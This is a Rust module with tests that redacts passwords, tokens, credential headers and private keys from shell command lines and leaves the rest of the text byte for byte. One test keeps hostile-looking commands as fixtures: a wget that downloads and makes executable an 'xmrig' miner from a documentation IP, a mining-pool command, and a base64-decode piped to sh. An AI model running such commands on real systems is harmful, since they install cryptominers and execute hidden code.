//! Secrets inside command lines, in shell form or as words.
//!
//! It follows the shell only as far as words, quotes and command separators go. Where it cannot
//! tell, it keeps the text: an account of a build in which the download is hidden is worth nothing.

use super::shape::is_token_byte;
use super::{
    Secrets, ends_in_secret_word, is_redacted, is_secret_name, looks_secret, redact_url,
    redact_value, redacted, scheme_start,
};

/// How many levels of quoted commands (`sh -c "sh -c '…'"`) are entered.
const MAX_DEPTH: u8 = 3;

/// How far the end of a private key is looked for; a key of 16,384 bits in base64 fits.
const MAX_KEY_BYTES: usize = 16 * 1024;

/// Longest label of a private key, such as `ENCRYPTED PRIVATE KEY`.
const MAX_LABEL_BYTES: usize = 64;

/// A command line, or any text made of lines of them, with its secrets replaced: `KEY=VALUE`,
/// `--password VALUE`, `curl -u USER:PASSWORD`, `Authorization: …`, user info of URLs, tokens.
/// Everything else stays byte for byte.
#[must_use]
pub fn redact_command(text: &str, secrets: Secrets) -> String {
    match secrets {
        Secrets::Keep => text.to_owned(),
        Secrets::Redact => redact_text(text, 0),
    }
}

/// As [`redact_command`], for a command that comes as a list of words.
#[must_use]
pub fn redact_words(words: &[String], secrets: Secrets) -> Vec<String> {
    if secrets == Secrets::Keep {
        return words.to_vec();
    }
    let mut line = Line::default();
    words.iter().map(|word| line.word(word, 0)).collect()
}

fn redact_text(text: &str, depth: u8) -> String {
    let mut out = String::with_capacity(text.len());
    let mut line = Line::default();
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        let length = if let Some(key) = private_key_len(rest) {
            out.push_str(&redacted(rest.get(..key).unwrap_or(rest).as_bytes()));
            key
        } else if c.is_whitespace() || is_separator(c) {
            let goes_on = c == '\n' && out.trim_end_matches([' ', '\t', '\r']).ends_with('\\');
            if (c == '\n' && !goes_on) || is_separator(c) {
                line = Line::default();
            }
            out.push(c);
            c.len_utf8()
        } else {
            let length = word_len(rest);
            out.push_str(&line.word(rest.get(..length).unwrap_or(rest), depth));
            length
        };
        rest = rest.get(length..).unwrap_or("");
    }
    out
}

fn is_separator(c: char) -> bool {
    matches!(c, ';' | '|' | '&' | '(' | ')')
}

/// Bytes up to the end of the word that `text` begins with; quotes hold it together, and a quote
/// that is never closed is an ordinary character. Never 0.
fn word_len(text: &str) -> usize {
    let bytes = text.as_bytes();
    let mut at = 0;
    while let Some(&byte) = bytes.get(at) {
        match byte {
            b'\\' if bytes.get(at + 1).is_some_and(|next| !next.is_ascii_whitespace()) => at += 2,
            b'"' | b'\'' => at = closing_quote(bytes, at).map_or(at + 1, |end| end + 1),
            _ if byte.is_ascii_whitespace() || is_separator(char::from(byte)) => break,
            _ => at += 1,
        }
    }
    at = at.clamp(1, text.len());
    while !text.is_char_boundary(at) {
        at += 1;
    }
    at
}

fn closing_quote(bytes: &[u8], open: usize) -> Option<usize> {
    let quote = *bytes.get(open)?;
    let mut at = open + 1;
    while let Some(&byte) = bytes.get(at) {
        if byte == quote {
            return Some(at);
        }
        at += if byte == b'\\' && quote == b'"' { 2 } else { 1 };
    }
    None
}

/// Length of a PEM private key (RFC 7468) that `text` begins with.
fn private_key_len(text: &str) -> Option<usize> {
    let rest = text.strip_prefix("-----BEGIN ")?;
    let label = rest.get(..rest.floor_char_boundary(MAX_LABEL_BYTES))?;
    if !label.get(..label.find("-----")?)?.ends_with("PRIVATE KEY") {
        return None;
    }
    let near = text.get(..text.floor_char_boundary(MAX_KEY_BYTES)).unwrap_or(text);
    let end = near.find("-----END ")? + "-----END ".len();
    let tail = near.get(end..)?;
    Some(end + tail.find("-----").map_or(tail.len(), |at| at + 5))
}

/// Programs whose short options are known here.
const PROGRAMS: [&str; 5] = ["curl", "sshpass", "redis-cli", "mysql", "mysqldump"];

/// What the next word will be.
#[derive(Clone, Copy, Default, PartialEq, Eq)]
enum Next {
    #[default]
    Plain,
    Secret,
    UserAndPassword,
    Command,
}

/// One simple command as far as it was read.
#[derive(Default)]
struct Line {
    program: &'static str,
    login: bool,
    next: Next,
}

impl Line {
    fn word(&mut self, raw: &str, depth: u8) -> String {
        let (open, inner, close) = unquote(raw);
        let next = std::mem::take(&mut self.next);
        if inner == "\\" {
            self.next = next;
            return raw.to_owned();
        }
        let takes = !inner.starts_with('-') && !inner.contains("://") && !is_redacted(inner);
        match next {
            Next::Secret if takes => return format!("{open}{}{close}", redacted(inner.as_bytes())),
            Next::UserAndPassword if takes && inner.contains(':') => {
                return format!("{open}{}{close}", redacted(inner.as_bytes()));
            }
            Next::Command if depth < MAX_DEPTH => {
                return format!("{open}{}{close}", redact_text(inner, depth + 1));
            }
            _ => {}
        }
        if inner.starts_with('-') {
            return self.option(raw, inner, depth);
        }
        let program = inner.rsplit('/').next().unwrap_or(inner);
        if let Some(known) = PROGRAMS.iter().find(|known| **known == program) {
            self.program = known;
        }
        self.login |= inner == "login";
        format!("{open}{}{close}", content(inner, depth))
    }

    fn option(&mut self, raw: &str, inner: &str, depth: u8) -> String {
        if let Some((name, value)) = raw.split_once('=') {
            let (open, plain, close) = unquote(value);
            if ends_in_secret_word(name) && !plain.contains("://") {
                return format!(
                    "{name}={open}{}{close}",
                    redact_value(name, plain, Secrets::Redact)
                );
            }
            if matches!(name, "--user" | "--proxy-user") && plain.contains(':') {
                return format!(
                    "{name}={open}{}{close}",
                    redact_value("AUTH", plain, Secrets::Redact)
                );
            }
            return format!("{name}={open}{}{close}", content(plain, depth));
        }
        let curl = self.program == "curl";
        self.next = match inner {
            "-u" | "-U" | "--user" | "--proxy-user" if curl => Next::UserAndPassword,
            "-p" if self.program == "sshpass" || self.login => Next::Secret,
            "-a" if self.program == "redis-cli" => Next::Secret,
            "-c" | "-ec" | "-lc" | "-xc" | "-exc" => Next::Command,
            _ if inner.starts_with("--") && ends_in_secret_word(inner) => Next::Secret,
            _ => Next::Plain,
        };
        let attached = |flag: &str| inner.strip_prefix(flag).filter(|value| !value.is_empty());
        let glued = match self.program {
            "curl" if !inner.starts_with("--") => attached("-u").filter(|v| v.contains(':')),
            "sshpass" | "mysql" | "mysqldump" => attached("-p"),
            _ => None,
        };
        match glued.filter(|value| !is_redacted(value)) {
            Some(value) => raw.replacen(value, &redacted(value.as_bytes()), 1),
            None => content(raw, depth),
        }
    }
}

/// The quote, what is inside, and the quote again; empty quotes where the word has none.
fn unquote(word: &str) -> (&str, &str, &str) {
    for quote in ["\"", "'"] {
        let inner = word.strip_prefix(quote).and_then(|rest| rest.strip_suffix(quote));
        if let Some(inner) = inner.filter(|inner| !inner.contains(quote)) {
            return (quote, inner, quote);
        }
    }
    ("", word, "")
}

/// A word without its quotes: an assignment, a header, a quoted command, a URL, or plain.
fn content(word: &str, depth: u8) -> String {
    if is_redacted(word) {
        return word.to_owned();
    }
    if let Some((name, value)) = word.split_once('=').filter(|(name, _)| is_identifier(name)) {
        let (open, plain, close) = unquote(value);
        let secret = is_secret_name(name) && !plain.is_empty() && !is_redacted(plain);
        if secret || looks_secret(plain) {
            return format!("{name}={open}{}{close}", redacted(plain.as_bytes()));
        }
        return format!("{name}={open}{}{close}", tokens(plain));
    }
    if let Some((name, value)) = word.split_once(':').filter(|(name, _)| is_header_name(name)) {
        let plain = value.trim_start();
        let space = value.get(..value.len() - plain.len()).unwrap_or("");
        if !plain.is_empty() && !is_redacted(plain) {
            return format!("{name}:{space}{}", redacted(plain.as_bytes()));
        }
        return word.to_owned();
    }
    if depth < MAX_DEPTH && word.contains(|c: char| c.is_whitespace() || is_separator(c)) {
        return redact_text(word, depth + 1);
    }
    tokens(word)
}

fn is_identifier(name: &str) -> bool {
    !name.is_empty()
        && name.len() <= 128
        && name.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
}

/// A header field (RFC 9110 §5.1) whose name says secret. `key:` and `pass:` alone are more often
/// something else, so a header name has a hyphen or is one of the known ones.
fn is_header_name(name: &str) -> bool {
    let known = ["authorization", "cookie", "token"].iter().any(|k| name.eq_ignore_ascii_case(k));
    is_identifier(name) && (known || (name.contains('-') && is_secret_name(name)))
}

/// Replaces URLs' secrets and runs of token characters that look secret. A URL ends at white space
/// or a quote.
fn tokens(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let (before, url) = rest.split_at_checked(scheme_start(rest, at)).unwrap_or(("", rest));
        let end = url.find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`'));
        let (url, tail) = url.split_at_checked(end.unwrap_or(url.len())).unwrap_or((url, ""));
        out.push_str(&token_runs(before));
        out.push_str(&redact_url(url, Secrets::Redact));
        rest = tail;
    }
    out.push_str(&token_runs(rest));
    out
}

fn token_runs(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while !rest.is_empty() {
        let run = rest.bytes().position(|b| !is_token_byte(b)).unwrap_or(rest.len());
        let (token, tail) = rest.split_at_checked(run).unwrap_or((rest, ""));
        if looks_secret(token) {
            out.push_str(&redacted(token.as_bytes()));
        } else {
            out.push_str(token);
        }
        let skip = tail.find(|c: char| c.is_ascii() && u8::try_from(c).is_ok_and(is_token_byte));
        let (other, next) = tail.split_at_checked(skip.unwrap_or(tail.len())).unwrap_or((tail, ""));
        out.push_str(other);
        rest = next;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::{redact_command, redact_words};
    use crate::{Secrets, redacted};

    fn redact(text: &str) -> String {
        redact_command(text, Secrets::Redact)
    }

    #[test]
    fn passwords_go_and_downloads_stay() {
        let hidden = redacted(b"hunter2");
        for (text, expected) in [
            ("TOKEN=hunter2 ./run", format!("TOKEN={hidden} ./run")),
            ("export API_KEY='hunter2'; ls", format!("export API_KEY='{hidden}'; ls")),
            ("tool --password hunter2 -v", format!("tool --password {hidden} -v")),
            ("tool --token=hunter2", format!("tool --token={hidden}")),
            ("docker login -u me -p hunter2 reg", format!("docker login -u me -p {hidden} reg")),
            ("RUN tool --token \\\n  hunter2 x", format!("RUN tool --token \\\n  {hidden} x")),
            ("sshpass -p hunter2 ssh h", format!("sshpass -p {hidden} ssh h")),
            (
                "curl -H 'X-Api-Key: hunter2' http://h/",
                format!("curl -H 'X-Api-Key: {hidden}' http://h/"),
            ),
            ("sh -c \"TOKEN=hunter2 x\"", format!("sh -c \"TOKEN={hidden} x\"")),
        ] {
            assert_eq!(redact(text), expected);
        }
        let basic = redacted(b"me:hunter2");
        assert_eq!(redact("curl -u me:hunter2 http://h/x"), format!("curl -u {basic} http://h/x"));
        assert_eq!(redact("wget http://me:hunter2@h/x"), format!("wget http://{basic}@h/x"));
        let nested = "curl \"http://p/?u=http://me:hunter2@h/,http://me:hunter2@g/\" x";
        assert_eq!(redact(nested), nested.replace("me:hunter2", &basic));
        let bearer = redacted(b"Bearer abc");
        assert_eq!(
            redact("curl -H \"Authorization: Bearer abc\" http://h/"),
            format!("curl -H \"Authorization: {bearer}\" http://h/")
        );
    }

    #[test]
    fn ordinary_commands_stay_byte_for_byte() {
        for text in [
            "mkdir -p /tmp/x && wget -q -O /tmp/x http://203.0.113.77/xmrig && chmod +x /tmp/x",
            "wget --auth-no-challenge http://203.0.113.77/x",
            "xmrig -o pool.example:3333 -u 44WALLET -p x",
            "echo aHR0cDovLzIwMy4wLjExMy45L3gK | base64 -d | sh",
            "don't stop; \"never",
            "apt-key adv --keyserver hkps://keys.example --recv-keys 0xABCDEF",
            "echo 'é\u{301}' \\",
            "",
        ] {
            assert_eq!(redact(text), text);
        }
    }

    #[test]
    fn private_key_over_several_lines_is_one_secret() {
        let key = "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----";
        let text = format!("cat <<K\n{key}\nK");
        assert_eq!(redact(&text), format!("cat <<K\n{}\nK", redacted(key.as_bytes())));
    }

    #[test]
    fn words_keep_their_number() {
        let words = ["curl", "-u", "a:b", "http://h/"].map(String::from);
        let out = redact_words(&words, Secrets::Redact);
        assert_eq!(out, ["curl", "-u", &redacted(b"a:b"), "http://h/"]);
        assert_eq!(redact_words(&words, Secrets::Keep), words);
    }

    #[test]
    fn keep_keeps() {
        assert_eq!(redact_command("TOKEN=x", Secrets::Keep), "TOKEN=x");
    }

    #[test]
    fn changed_bytes_never_panic() {
        let text = "TOKEN=abc curl -u a:b -H 'Authorization: Bearer x' \"http://u:p@h/?sig=1\" \\\n \
            --password z; sshpass -pq sh -c \"K_KEY=v\" -----BEGIN PRIVATE KEY-----\n-----END X-----";
        let mut seed = 0x2545_f491_4f6c_dd1d_u64;
        for _ in 0..5000 {
            let mut bytes = text.as_bytes().to_vec();
            for _ in 0..3 {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                let at = usize::try_from(seed >> 40).unwrap() % bytes.len();
                bytes[at] = seed.to_le_bytes()[0];
            }
            let text = String::from_utf8_lossy(&bytes);
            assert_eq!(redact_command(&text, Secrets::Keep), text);
            redact(&text);
        }
    }
}
